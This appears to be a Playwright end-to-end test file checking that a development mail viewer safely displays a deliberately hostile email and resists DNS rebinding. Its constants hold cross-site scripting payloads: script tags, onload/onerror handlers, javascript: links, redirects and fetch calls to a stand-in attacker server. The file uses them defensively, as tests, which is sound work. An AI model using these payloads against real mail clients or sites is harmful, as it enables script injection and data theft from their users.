"""Mails of development in a browser: whatever one holds, it can only be looked at."""

from __future__ import annotations

from email.message import EmailMessage

import pytest
from playwright.async_api import Page

from tests.cli.command import Up
from tests.e2e.browsers import Windows
from tests.e2e.strangers import Stranger

pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]  # tests/http/test_dev_mail.py judges the same pages
SUBJECT = "<script>document.title = 'broken'</script>"
NAME = "20260102T030405000000Z-hostile"
RUN = "(parent.document || document).title = 'broken'; document.body.dataset.broken = 'yes'; fetch('EVIL/script')"
HOSTILE = """<!doctype html><html><head>
<base href="EVIL/" target="_top">
<meta http-equiv="refresh" content="0; url=EVIL/refresh">
<link rel="stylesheet" href="EVIL/style.css">
<style>@import url(EVIL/import.css); body { background: url(EVIL/back.png) }</style>
<script>RUN</script><script src="EVIL/script.js"></script></head>
<body onload="RUN"><p>Dear Ada</p>
<img src="EVIL/pixel.png" onerror="RUN"><svg onload="RUN"></svg>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>RUN</script>"></iframe>
<object data="EVIL/object"></object><video src="EVIL/video" autoplay></video>
<form action="EVIL/form" target="_top"><button>Send</button></form>
<a id="script" href="javascript:RUN">Run</a><a id="top" href="EVIL/top" target="_top">Away</a>
</body></html>"""


def keep(up: Up, name: str, mail: EmailMessage) -> None:
    """Puts the mail where those lie that would have been sent."""
    folder = up.folder / "mail"
    folder.mkdir(exist_ok=True)
    (folder / f"{name}.eml").write_bytes(bytes(mail))


@pytest.fixture
def hostile_url(up: Up, evil: Stranger) -> str:
    """Where a mail is shown that tries all that HTML can."""
    run = RUN.replace("EVIL", evil.url)
    mail = EmailMessage()
    mail["From"], mail["To"] = "Gatepost <auth@example.org>", "ada@example.org"
    mail["Subject"] = SUBJECT
    mail.set_content(f"</pre><script>{run}</script> {evil.url}/<b>link</b> javascript:alert(1)")
    mail.add_alternative(HOSTILE.replace("RUN", run).replace("EVIL", evil.url), subtype="html")
    keep(up, NAME, mail)
    return f"{up.run['http_url']}/dev/mail/{NAME}"


async def a_window(windows: Windows) -> Page:
    window = await windows.open()
    window.on("dialog", lambda dialog: windows.complaints.append(f"dialog {dialog.message}"))
    return window


async def test_a_hostile_mail_does_nothing_in_its_frame(windows: Windows, hostile_url: str, evil: Stranger) -> None:
    window = await a_window(windows)
    await window.goto(hostile_url)
    mail = window.frame_locator("iframe")
    assert await mail.get_by_text("Dear Ada").is_visible()

    for what in ("#script", "#top", "button"):
        await mail.locator(what).click()

    assert await mail.locator("body").get_attribute("data-broken") is None
    assert await window.locator("body").get_attribute("data-broken") is None
    assert await window.title() == SUBJECT
    assert window.url == hostile_url
    assert evil.asked == []
    assert not [complaint for complaint in windows.complaints if complaint.startswith("dialog")]


async def test_a_hostile_mail_does_nothing_in_a_window_of_its_own(
    windows: Windows, hostile_url: str, evil: Stranger
) -> None:
    window = await a_window(windows)

    await window.goto(f"{hostile_url}/html")

    assert await window.get_by_text("Dear Ada").is_visible()
    assert await window.evaluate("self.origin") == "null"
    assert await window.locator("body").get_attribute("data-broken") is None
    assert evil.asked == []


async def test_the_source_of_a_mail_is_text(windows: Windows, hostile_url: str) -> None:
    window = await a_window(windows)

    await window.goto(f"{hostile_url}/source")

    assert "multipart/alternative" in await window.locator("body").inner_text()
    assert await window.locator("script").count() == 0


async def test_a_new_mail_shows_up_by_itself_without_script(up: Up, windows: Windows) -> None:
    mail = EmailMessage()
    mail["Subject"] = "News"
    window = await windows.open(script=False)
    await window.goto(f"{up.run['http_url']}/dev/mail")
    assert await window.get_by_role("link", name="News").count() == 0

    keep(up, "20260102T030405000000Z-news", mail)

    await window.get_by_role("link", name="News").wait_for()


async def test_the_list_shows_a_subject_as_it_is(up: Up, windows: Windows, hostile_url: str) -> None:
    window = await windows.open(script=False)
    await window.goto(f"{up.run['http_url']}/dev/mail")

    await window.get_by_role("link", name="<script>").click()

    await window.get_by_role("heading", name="<script>").wait_for()
    assert window.url == hostile_url


async def test_a_name_that_a_stranger_turned_to_this_machine_shows_no_mail(
    up: Up, windows: Windows, hostile_url: str
) -> None:
    """DNS rebinding: to the browser, the stranger's site is then the same origin as the mails."""
    window = await windows.open()

    answer = await window.goto(hostile_url.replace("127.0.0.1", "evil.test"))

    assert answer is not None
    assert answer.status == 404
    assert "Dear Ada" not in await window.content()
